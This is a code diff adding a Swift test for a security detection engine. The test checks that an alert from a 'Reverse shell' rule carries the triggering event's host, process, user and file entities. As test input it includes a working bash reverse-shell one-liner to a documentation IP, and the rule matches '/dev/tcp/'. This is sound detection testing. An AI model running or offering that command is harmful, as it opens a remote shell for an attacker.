@@ -84,6 +84,37 @@ struct DetectionStageTests {
         #expect(stage.statistics.engine.late == 0)
     }
 
+    @Test("a single-event alert says what it is about: its event's entities (host, process, user, file)")
+    func singleEventEntities() async throws {
+        let rules = RuleLoader.load([RuleSource(path: "shell.yml", text: """
+            title: Reverse shell
+            name: H-T
+            logsource: {product: linux, category: process_creation}
+            detection:
+              selection: {CommandLine|contains: /dev/tcp/}
+              condition: selection
+            level: critical
+            """)])
+        #expect(rules.errors.isEmpty)
+        let intake = EventIntake(budgetBytes: 1 << 20)
+        let sink = RecordingSink("memory")
+        let bus = AlertBus(sinks: [sink], logger: Logger(label: "test"))
+        let stage = DetectionStage(rules: rules.ruleSet, intake: intake, bus: bus, latenessSeconds: 0, tickSeconds: 3600,
+                                   node: "n", logger: Logger(label: "test"))
+        let entities = [Entity(.host, "web-1"), Entity(.process, "4242"), Entity(.user, "www-data"), Entity(.file, "/usr/bin/bash")]
+        try await withServices([bus, stage]) {
+            for (n, command) in ["ls -l", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"].enumerated() {
+                var event = SecurityEvent(time: Timestamp(microseconds: 0), id: "0190a0b0-0000-7000-8000-00000000000\(n)", source: .processCreation,
+                                          fields: [.init("CommandLine", .string(command)), .init("ProcessId", .int(4242))], entities: entities)
+                intake.submitStamped(&event)
+            }
+            try await eventually { sink.latest.values.contains { $0.rule == "H-T" } }
+        }
+        let alert = try #require(sink.latest.values.first { $0.rule == "H-T" })
+        #expect(alert.group.isEmpty && alert.eventCount == 1 && alert.evidence == ["0190a0b0-0000-7000-8000-000000000001"])
+        #expect(alert.entities == entities)
+    }
+
     @Test("graceful shutdown handles what is queued and closes every open alert")
     func shutdownCloses() async throws {
         let intake = EventIntake(budgetBytes: 1 << 20)
